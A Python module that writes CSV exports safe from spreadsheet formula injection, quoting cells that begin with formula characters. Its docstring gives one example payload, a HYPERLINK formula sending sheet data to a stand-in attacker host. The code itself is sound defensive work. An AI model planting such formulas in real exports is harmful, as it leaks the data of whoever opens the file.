"""CSV downloads that are safe to open in a spreadsheet.

A CSV is data, but Excel, LibreOffice and Google Sheets run a cell that starts like a
formula: a decision titled `=HYPERLINK("https://evil.example/?"&A1, "details")` would send
the sheet's contents away, or worse, when a staff member opens the download. Every CSV
Quorum writes goes through `csv_text`, which prefixes such cells with a single quote, the
usual neutralisation: spreadsheets show the text as typed, and a reader of the raw file can
still tell what it was.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

#: What a spreadsheet reads as the start of a formula (tab and CR can hide one behind them).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert_cell(value: object) -> str:
    """The cell as text no spreadsheet evaluates; None is an empty cell."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """A CSV document: the header, then every row, with each cell made inert."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows([inert_cell(value) for value in row] for row in rows)
    return out.getvalue()
